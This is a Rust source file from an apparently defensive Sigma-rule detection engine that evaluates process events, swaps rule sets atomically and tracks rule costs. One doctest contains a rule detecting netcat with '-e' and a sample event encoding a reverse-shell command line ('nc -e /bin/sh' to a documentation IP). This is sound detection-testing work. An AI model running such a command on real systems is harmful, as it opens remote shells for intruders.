//! Rules on Lavender's events.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use arc_swap::{ArcSwap, Cache};
use lavender_core::event::Event;
use lavender_core::{BootTime, Certainty, Detection, Detector};

use crate::ahead::{Ahead, Hit};
use crate::evaluate::{Evaluator, Match};
use crate::event::{AuditOrEvent, AuditView, EventRecord, Route};
use crate::logsource::LogSource;
use crate::novelty::Sighting;
use crate::record::Record;
use crate::ruleset::{Rule, RuleSet};
use crate::stats::{Budget, BudgetNotice, Entry, Ledger, RuleStats, StatsOptions};
use crate::truth::Truth;

/// Where detectors take their rules from. Cloning gives another handle on the same rules.
///
/// Rules are swapped atomically while events flow: an event is evaluated by the set before or by the set after,
/// never by half of each.
///
/// ```
/// use lavender_detect::{RuleHandle, RuleSet};
///
/// let handle = RuleHandle::new(RuleSet::empty());
/// let detector = handle.detector();
/// handle.swap(RuleSet::empty());
/// # let _ = detector;
/// ```
#[derive(Clone, Debug)]
pub struct RuleHandle {
    shared: Arc<Shared>,
}

#[derive(Debug)]
struct Shared {
    rules: ArcSwap<InUse>,
    ledger: Arc<Ledger>,
    undetermined: AtomicU64,
    forgotten: AtomicU64,
}

/// Rules in use, and by their numbers where they are counted.
#[derive(Debug)]
struct InUse {
    rules: RuleSet,
    entries: Box<[Arc<Entry>]>,
}

/// What a detector does with a rule that could not be decided, because a field was truncated or unreadable.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum UndeterminedPolicy {
    /// Counts it ([`RuleHandle::undetermined`]) and raises nothing.
    #[default]
    Count,
    /// Counts it and raises it as a detection with [`Certainty::Undetermined`].
    Report,
}

impl RuleHandle {
    /// A handle on these rules.
    pub fn new(rules: RuleSet) -> Self {
        Self::with_stats(rules, StatsOptions::default())
    }

    /// A handle on these rules, which are counted, timed and held to a budget as these options say.
    pub fn with_stats(rules: RuleSet, options: StatsOptions) -> Self {
        let none = InUse { rules: RuleSet::empty(), entries: Box::default() };
        let shared = Shared {
            rules: ArcSwap::from_pointee(none),
            ledger: Arc::new(Ledger::new(options)),
            undetermined: AtomicU64::new(0),
            forgotten: AtomicU64::new(0),
        };
        let handle = Self { shared: Arc::new(shared) };
        handle.swap(rules);
        handle
    }

    /// The rules as they are now.
    pub fn rules(&self) -> RuleSet {
        self.shared.rules.load().rules.clone()
    }

    /// Puts other rules in their place. Each detector takes them with its next event. Rules that are the same as
    /// before go on counting, and stay as their budget made them.
    pub fn swap(&self, rules: RuleSet) {
        let shared = &*self.shared;
        shared.ledger.enter(&rules.clone(), |entries| {
            shared.rules.store(Arc::new(InUse { rules, entries }));
        });
    }

    /// What each rule has done and what it costs, in the order of [`RuleSet::iter`]. Costs some 100 ns per rule.
    pub fn rule_stats(&self) -> Vec<RuleStats> {
        self.shared.ledger.stats()
    }

    /// What a rule may cost.
    pub fn budget(&self) -> Option<Budget> {
        self.shared.ledger.options.budget
    }

    /// Every rule that its budget made be evaluated less since this was last called, as it is now. Whoever sets a
    /// budget calls this every few seconds and logs what it gives; it costs nothing as long as nothing changes.
    pub fn take_budget_notices(&self) -> Vec<BudgetNotice> {
        self.shared.ledger.take_notices()
    }

    /// Lets the rule with this id be evaluated again whatever it has cost; it is judged anew by what it costs from
    /// now on. Says whether there is such a rule.
    pub fn reactivate(&self, id: &str) -> bool {
        self.shared.ledger.reactivate(id)
    }

    /// An evaluator for records of a log source, as [`RuleSet::evaluator`] makes it, that counts for
    /// [`rule_stats`](Self::rule_stats). It keeps the rules of now when others are put in their place.
    pub fn evaluator(&self, logsource: &LogSource) -> Evaluator {
        self.metered(|rules| rules.evaluator(logsource))
    }

    /// An evaluator with every rule, as [`RuleSet::unrouted_evaluator`] makes it, that counts for
    /// [`rule_stats`](Self::rule_stats). It keeps the rules of now when others are put in their place.
    pub fn unrouted_evaluator(&self) -> Evaluator {
        self.metered(RuleSet::unrouted_evaluator)
    }

    fn metered(&self, evaluator: impl FnOnce(&RuleSet) -> Evaluator) -> Evaluator {
        let in_use = self.shared.rules.load();
        evaluator(&in_use.rules).metered(&self.shared.ledger, &in_use.entries)
    }

    /// How often a rule could not be decided.
    pub fn undetermined(&self) -> u64 {
        self.shared.undetermined.load(Ordering::Relaxed)
    }

    /// How many values rules with [`novelty`](crate::novelty) had to forget for lack of room. Where it grows, they may
    /// raise what was seen before, and say so.
    pub fn forgotten(&self) -> u64 {
        self.shared.forgotten.load(Ordering::Relaxed)
    }

    /// A detector for one thread, which does not raise what could not be decided.
    pub fn detector(&self) -> SigmaDetector {
        SigmaDetector::new(self, UndeterminedPolicy::default())
    }
}

/// Evaluates Sigma rules on Lavender's events. One per thread; see [`RuleHandle`].
///
/// ```
/// use std::sync::Arc;
/// use lavender_core::event::{Arguments, Event, EventData, Exec, Executable, Process};
/// use lavender_core::{
///     BootId, BootTime, ByteString, Captured, Detector, ExecId, EventId, Origin, ProcessId, Timestamp,
/// };
/// # use lavender_core::event::{Credentials, Namespaces};
/// # use lavender_core::{AgentId, Sequencer, TenantId};
/// use lavender_detect::{RuleHandle, RuleSet};
///
/// # fn main() -> Result<(), Box<dyn std::error::Error>> {
/// let rules = RuleSet::from_yaml("
/// title: Netcat with a program
/// logsource: {category: process_creation, product: linux}
/// detection:
///   selection: {Image|endswith: /nc, CommandLine|contains: ' -e '}
///   condition: selection
/// level: high
/// ")?;
/// let mut detector = RuleHandle::new(rules).detector();
/// # let boot = BootId::from_u128(7);
/// # let ids = Sequencer::new(Origin::new(&TenantId::new("acme")?, &AgentId::new("web-1")?, boot));
/// let process = Process {
///     exec_id: ExecId { process: ProcessId::new(boot, 5_000, 42), generation: 1 },
///     executable: Executable {
///         path: Captured::complete(ByteString::from("/usr/bin/nc")),
///         ..Executable::default()
///     },
///     arguments: Captured::complete(Arguments::new(b"nc\0-e\0/bin/sh\0192.0.2.1\0")),
///     // and so on
/// #   pid: 42, namespace_pid: 42, name: ByteString::from("nc"),
/// #   working_directory: Captured::complete(ByteString::from("/")),
/// #   credentials: Credentials::default(), user: None, group: None, terminal: None, cgroup_id: 1,
/// #   container: None, namespaces: Namespaces::default(), tree: None, parent_id: None, parent: None,
/// };
/// let exec = Exec { filename: Captured::complete(ByteString::from("nc")), previous_executable: None };
/// let event = Arc::new(Event {
///     id: ids.next(),
///     observed_at: Timestamp::from_millis(1_700_000_000_000),
///     boot_time: BootTime::from_nanos(5_000),
///     tid: 42,
///     process: Some(Arc::new(process)),
///     data: EventData::Exec(exec),
/// });
/// let mut detections = Vec::new();
/// detector.detect(&event, &mut detections);
/// assert_eq!(&*detections[0].rule.title, "Netcat with a program");
/// assert_eq!(&*detections[0].evidence[0].field, "Image");
/// # Ok(())
/// # }
/// ```
#[derive(Debug)]
pub struct SigmaDetector {
    shared: Arc<Shared>,
    rules: Cache<ArcSwapOf, Arc<InUse>>,
    /// What the evaluators were made from.
    current: Arc<InUse>,
    evaluators: Evaluators,
    /// What the current event hit; empty between events.
    hits: Vec<Hit>,
    /// Events that were looked at ahead.
    ahead: Ahead,
    /// The boot time of the event with which the evaluators next add up what they counted.
    add_up_at: BootTime,
    policy: UndeterminedPolicy,
}

#[derive(Debug)]
struct Evaluators {
    routes: [Evaluator; Route::ALL.len()],
    /// `None` where no rule is for audit's records.
    audit: Option<Box<[Evaluator; AuditView::ALL.len()]>>,
}

/// The shared rules, as what a cache can hold.
#[derive(Clone, Debug)]
struct ArcSwapOf(Arc<Shared>);

impl std::ops::Deref for ArcSwapOf {
    type Target = ArcSwap<InUse>;

    fn deref(&self) -> &ArcSwap<InUse> {
        &self.0.rules
    }
}

/// A detector adds up what it counted at least this often, in ns of the events' boot time: soon enough for whoever
/// looks on.
const ADD_UP_NS: u64 = 1_000_000_000;

impl Evaluators {
    fn new(in_use: &InUse, ledger: &Arc<Ledger>) -> Self {
        let rules = &in_use.rules;
        let metered = |evaluator: Evaluator| evaluator.metered(ledger, &in_use.entries);
        let used = rules.iter().any(|rule| AuditView::serves(rule.logsource()));
        let audit = || Box::new(AuditView::ALL.map(|view| metered(rules.audit_evaluator(view))));
        Self {
            routes: Route::ALL.map(|route| metered(rules.structured_evaluator(&route.logsource()))),
            audit: used.then(audit),
        }
    }

    fn add_up(&mut self) {
        let audit = self.audit.iter_mut().flat_map(|audit| audit.iter_mut());
        self.routes.iter_mut().chain(audit).for_each(Evaluator::add_up);
    }

    /// Gives `visit` every rule that the event hits as one record or another; one that it hits as several, several
    /// times.
    #[inline]
    fn each_match(
        &mut self,
        rules: &RuleSet,
        event: &Event,
        mut visit: impl FnMut(Match<'_>, Option<AuditView>),
    ) {
        let record = EventRecord::new(event);
        for route in Route::of(event) {
            self.routes[route as usize].matches(&record).for_each(|found| visit(found, None));
        }
        let Some(audit) = &mut self.audit else { return };
        for view in AuditView::of(event.kind()) {
            let evaluator = &mut audit[view as usize];
            if !evaluator.is_empty() {
                let record = rules.audit_record(view, event);
                evaluator.matches(&record).for_each(|found| visit(found, Some(view)));
            }
        }
    }
}

/// Adds a hit. A rule counts once for an event: the first time that it matches for certain, else the first time.
fn add(hits: &mut Vec<Hit>, hit: Hit) {
    match hits.iter_mut().find(|other| other.rule == hit.rule) {
        None => hits.push(hit),
        Some(other) if hit.truth == Truth::True && other.truth != Truth::True => *other = hit,
        Some(_) => {}
    }
}

impl SigmaDetector {
    /// A detector that takes its rules from this handle.
    pub fn new(handle: &RuleHandle, policy: UndeterminedPolicy) -> Self {
        let shared = Arc::clone(&handle.shared);
        let mut rules = Cache::new(ArcSwapOf(Arc::clone(&shared)));
        let current = Arc::clone(rules.load());
        let evaluators = Evaluators::new(&current, &shared.ledger);
        let add_up_at = BootTime::default();
        let (hits, ahead) = (Vec::new(), Ahead::default());
        Self { shared, rules, current, evaluators, hits, ahead, add_up_at, policy }
    }

    #[cold]
    fn add_up(&mut self, now: BootTime) {
        self.evaluators.add_up();
        self.add_up_at = BootTime::from_nanos(now.as_nanos().saturating_add(ADD_UP_NS));
    }
}

impl SigmaDetector {
    /// Evaluates an event, and gives `each` every rule that matches it for certain, with the record, before what is to
    /// be raised goes to `out`. Rules that are [silent](RuleSet::is_silent) are among the former only: what correlates
    /// detections ([`Correlator::observe`](crate::correlate::Correlator::observe)) sees them here. Rules with
    /// [`novelty`](crate::novelty) are among neither, since what they find is nothing to show before it is known to be
    /// new.
    pub fn detect_each(
        &mut self,
        event: &Arc<Event>,
        each: &mut dyn FnMut(&Rule, &dyn Record),
        out: &mut Vec<Detection>,
    ) {
        let mut judge = |rule: &Rule, record: &dyn Record| {
            if rule.novelty().is_some() {
                return Sighting::Known;
            }
            each(rule, record);
            Sighting::Plain
        };
        self.detect_judged(event, &mut judge, out);
    }

    /// As [`detect_each`](Self::detect_each), and `judge` says of what matches for certain whether it is raised: what
    /// knows which values were seen ([`Novelty::sight`](crate::novelty::Novelty::sight)) is asked here.
    pub fn detect_judged(
        &mut self,
        event: &Arc<Event>,
        judge: &mut dyn FnMut(&Rule, &dyn Record) -> Sighting,
        out: &mut Vec<Detection>,
    ) {
        self.refresh();
        self.evaluate(event, judge, out);
    }

    /// What becomes of what could not be decided.
    pub(crate) const fn policy(&self) -> UndeterminedPolicy {
        self.policy
    }

    /// Counts values that had to be forgotten.
    pub(crate) fn forgot(&self, values: u64) {
        self.shared.forgotten.fetch_add(values, Ordering::Relaxed);
    }

    /// Takes the newest rules.
    pub(crate) fn refresh(&mut self) {
        let rules = self.rules.load();
        if !Arc::ptr_eq(rules, &self.current) {
            self.current = Arc::clone(rules);
            self.evaluators = Evaluators::new(&self.current, &self.shared.ledger);
            self.ahead.clear();
        }
    }

    /// Whether anything comes of an event: a rule matches it, or what could not be decided is reported. What it hit is
    /// remembered for when it is [evaluated](Self::evaluate).
    pub(crate) fn look_ahead(&mut self, event: &Arc<Event>) -> bool {
        self.refresh();
        self.find_hits(event);
        let rules = &self.current.rules;
        let (mut matters, mut undetermined) = (false, 0);
        for hit in &self.hits {
            let rule = &rules.inner().rules[hit.rule as usize];
            if hit.truth != Truth::Undetermined {
                matters = true;
            } else if !rules.is_silent(rule) {
                undetermined += 1;
                matters |= self.policy == UndeterminedPolicy::Report && rule.novelty().is_none();
            }
        }
        if undetermined > 0 {
            self.shared.undetermined.fetch_add(undetermined, Ordering::Relaxed);
        }
        self.ahead.keep(event, self.hits.drain(..));
        matters
    }

    /// Says that what was looked at ahead is not looked at again.
    pub(crate) fn forget_ahead(&mut self) {
        self.ahead.clear();
    }

    fn find_hits(&mut self, event: &Arc<Event>) {
        if event.boot_time >= self.add_up_at {
            self.add_up(event.boot_time);
        }
        let hits = &mut self.hits;
        self.evaluators.each_match(&self.current.rules, event, |found, view| {
            add(hits, Hit { rule: found.number(), truth: found.truth(), view });
        });
        if let Some((rule, _)) = self.current.rules.refused(event) {
            add(hits, Hit { rule, truth: Truth::True, view: None });
        }
    }

    pub(crate) fn evaluate(
        &mut self,
        event: &Arc<Event>,
        judge: &mut dyn FnMut(&Rule, &dyn Record) -> Sighting,
        out: &mut Vec<Detection>,
    ) {
        let known = self.ahead.recall(event);
        let is_known = known.is_some();
        match known {
            Some(known) => self.hits.extend_from_slice(known),
            None => self.find_hits(event),
        }
        let rules = &self.current.rules;
        for hit in self.hits.drain(..) {
            let rule = &rules.inner().rules[hit.rule as usize];
            let event_record = EventRecord::new(event);
            let audit_record = hit.view.map(|view| rules.audit_record(view, event));
            let undetermined = hit.truth == Truth::Undetermined;
            let sighting = match &audit_record {
                _ if undetermined => Sighting::Plain,
                None => judge(rule, &event_record),
                Some(audit) => judge(rule, &AuditOrEvent { audit, event: &event_record }),
            };
            if rules.is_silent(rule) {
                continue;
            }
            if undetermined {
                if !is_known {
                    self.shared.undetermined.fetch_add(1, Ordering::Relaxed);
                }
                // Whether its value is new is not known either, and it would be raised every time.
                if self.policy == UndeterminedPolicy::Count || rule.novelty().is_some() {
                    continue;
                }
            }
            if matches!(sighting, Sighting::Known | Sighting::Again) {
                continue;
            }
            let explanation = match &audit_record {
                None => rules.explain(rule, &event_record),
                Some(audit) => rules.explain(rule, audit),
            };
            let certainty = if undetermined {
                Certainty::Undetermined { fields: explanation.undetermined() }
            } else {
                Certainty::Certain
            };
            let detection = Detection {
                rule: Arc::clone(&rule.meta),
                event: Arc::clone(event),
                evidence: match rules.refused(event) {
                    Some((_, evidence)) => vec![evidence],
                    None => explanation.evidence(),
                },
                certainty,
                correlated: None,
            };
            match sighting {
                Sighting::New(values) => {
                    out.extend(values.into_iter().map(|value| value.detection(&detection)));
                }
                _ => out.push(detection),
            }
        }
    }

    /// The rules that the last event was evaluated by.
    pub fn rules(&self) -> &RuleSet {
        &self.current.rules
    }
}

/// Raises what rules find on single events. Rules that are there for correlations only raise nothing, and neither do those
/// with novelty: [`CorrelatingDetector`](crate::correlate::CorrelatingDetector) knows what is new.
impl Detector for SigmaDetector {
    fn detect(&mut self, event: &Arc<Event>, out: &mut Vec<Detection>) {
        self.detect_each(event, &mut |_, _| {}, out);
    }
}
